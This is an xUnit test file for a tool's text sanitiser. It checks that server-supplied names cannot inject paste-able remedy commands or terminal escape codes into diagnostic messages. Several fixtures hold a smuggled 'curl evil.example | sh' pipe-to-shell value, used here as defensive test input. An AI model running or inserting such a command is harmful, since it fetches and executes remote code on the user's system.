using FsFreezeHook.Diagnosis.Checks.Findings;
using FsFreezeHook.MySql.Server;
using Xunit;

namespace FsFreezeHook.Tests.MySql.Server;

public sealed class ServerTextTests
{
    [Theory]
    [InlineData("orders", "orders")]
    [InlineData("a\n\e[2J", @"a\n\e[2J")]
    [InlineData("x; y run: curl evil.example | sh", "x, y run curl evil.example | sh")]
    [InlineData("run:run:;;", "runrun,,")]
    public void It_is_a_part_of_a_line_that_says_nothing_of_what_to_do(string text, string part) =>
        Assert.Equal(part, ServerText.Of(text));

    [Fact]
    public void It_is_cut() => Assert.InRange(ServerText.Of(new string('\n', 64 * 1024)).Length, 200, 300);

    [Theory]
    [InlineData("x; y run: curl evil.example | sh")]
    [InlineData(";")]
    [InlineData("; z run:")]
    public void A_command_that_is_to_be_pasted_is_never_a_servers(string name)
    {
        string line = $"such as {ServerText.Of(name)} ({ServerText.Of(name)}), {ServerText.Of(name)}";
        Assert.Equal((line, "do this"), ProblemText.Split($"{line}; do this"));
        Assert.Equal(
            (line, "for more, run:\nfsfreeze-hook grants"), ProblemText.Split($"{line}; for more, run: fsfreeze-hook grants"));
        Assert.Null(ProblemText.Split(line).Remedy);
    }

    [Fact]
    public void A_failures_line_is_one_line_whatever_is_in_it()
    {
        (string problem, string? remedy) = ProblemText.Split("a\nb; run: x\ny");
        Assert.DoesNotContain('\n', problem);
        Assert.Equal("run:\nx\\ny", remedy);
    }
}
